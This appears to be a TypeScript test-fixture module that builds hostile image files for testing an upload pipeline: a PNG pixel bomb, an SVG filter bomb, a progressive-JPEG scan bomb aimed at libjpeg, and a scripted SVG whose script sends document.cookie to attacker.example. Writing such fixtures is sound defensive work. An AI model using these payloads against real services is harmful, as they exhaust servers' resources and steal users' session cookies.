import { crc32, deflateSync } from "node:zlib";

/** One PNG chunk: length, type, data, CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/** A PNG of a few hundred bytes whose header declares width × height pixels: a decompression bomb. */
export function pixelBombPng(width = 100_000, height = 100_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const rows = deflateSync(Buffer.alloc(64)); // far fewer rows than declared
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", rows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export const scriptedSvg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">` +
    `<script>fetch('https://attacker.example/'+document.cookie)</script>` +
    `<rect width="100" height="100" fill="red"/></svg>`,
);

/** An SVG of `size` px whose `<image>` embeds `raster` as a base64 data: URI (xlink or plain href). */
export function svgEmbedding(raster: Buffer, options: { size?: number; xlink?: boolean; mime?: string } = {}): Buffer {
  const size = options.size ?? 100;
  const attribute = options.xlink ? "xlink:href" : "href";
  const uri = `data:${options.mime ?? "image/png"};base64,${raster.toString("base64")}`;
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${size}" height="${size}">` +
      `<image ${attribute}="${uri}" width="${size}" height="${size}"/></svg>`,
  );
}

/** Tiny file, huge work: turbulence blurred by a deviation of 500 over a canvas of `size`² px. */
export function filterBombSvg(size = 7000, octaves = 4): Buffer {
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}"><filter id="f">` +
      `<feTurbulence baseFrequency="0.9" numOctaves="${octaves}"/><feGaussianBlur stdDeviation="500"/></filter>` +
      `<rect width="100%" height="100%" filter="url(#f)"/></svg>`,
  );
}

/**
 * A progressive grayscale JPEG of `side`² whose AC scans each code one end-of-band run over every
 * block: a few bytes a scan, but the decoder visits every block in every scan. 28,500 scans of 2048²
 * are 521 KB and take seconds of libjpeg's time (the attack on uploads in issue 27). Repeating a scan
 * is only a warning to libjpeg, which decodes on.
 */
export function scanBombJpeg(side = 2048, scans = 28_500): Buffer {
  const blocks = (side / 8) * (side / 8);
  const segment = (marker: number, body: Buffer) =>
    Buffer.concat([Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
  const dqt = segment(0xdb, Buffer.concat([Buffer.from([0x00]), Buffer.alloc(64, 1)]));
  const sof2 = segment(0xc2, Buffer.from([8, side >> 8, side & 0xff, side >> 8, side & 0xff, 1, 1, 0x11, 0]));
  // DC table 0: one code, "0", for category 0 (no difference). AC table 0: "00" for EOB14 (a run of
  // 16,384 + 14 bits), "01" for EOB1 (a run of 2 + 1 bit).
  const counts = (lengths: number[]) => Buffer.from([...lengths, ...Array<number>(16 - lengths.length).fill(0)]);
  const dht = segment(
    0xc4,
    Buffer.concat([
      Buffer.from([0x00]),
      counts([1]),
      Buffer.from([0x00]),
      Buffer.from([0x10]),
      counts([0, 2]),
      Buffer.from([0xe0, 0x10]),
    ]),
  );
  const sos = (ss: number, se: number) => segment(0xda, Buffer.from([1, 1, 0x00, ss, se, 0x00]));
  const entropy = (bits: string) => {
    const padded = bits + "1".repeat((8 - (bits.length % 8)) % 8);
    const bytes: number[] = [];
    for (let i = 0; i < padded.length; i += 8) {
      const byte = parseInt(padded.slice(i, i + 8), 2);
      bytes.push(byte);
      if (byte === 0xff) bytes.push(0x00);
    }
    return Buffer.from(bytes);
  };
  const dcScan = Buffer.concat([sos(0, 0), entropy("0".repeat(blocks))]);
  // Runs of 32,767 (EOB14 with 14 one bits) until fewer than 32,767 blocks are left; the rest in runs of
  // 2 or 3 (EOB1) would be long for big remainders, so `side` should make blocks a multiple of 32,767
  // plus 0, 2 or 3: 2048² gives 65,536 = 2 × 32,767 + 2.
  let left = blocks;
  let bits = "";
  while (left >= 32_767) {
    bits += "00" + "1".repeat(14);
    left -= 32_767;
  }
  while (left >= 2) {
    const run = left === 3 ? 3 : 2;
    bits += "01" + (run === 3 ? "1" : "0");
    left -= run;
  }
  const acScan = Buffer.concat([sos(1, 63), entropy(bits)]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    dqt,
    sof2,
    dht,
    dcScan,
    ...Array.from({ length: scans }, () => acScan),
    Buffer.from([0xff, 0xd9]),
  ]);
}
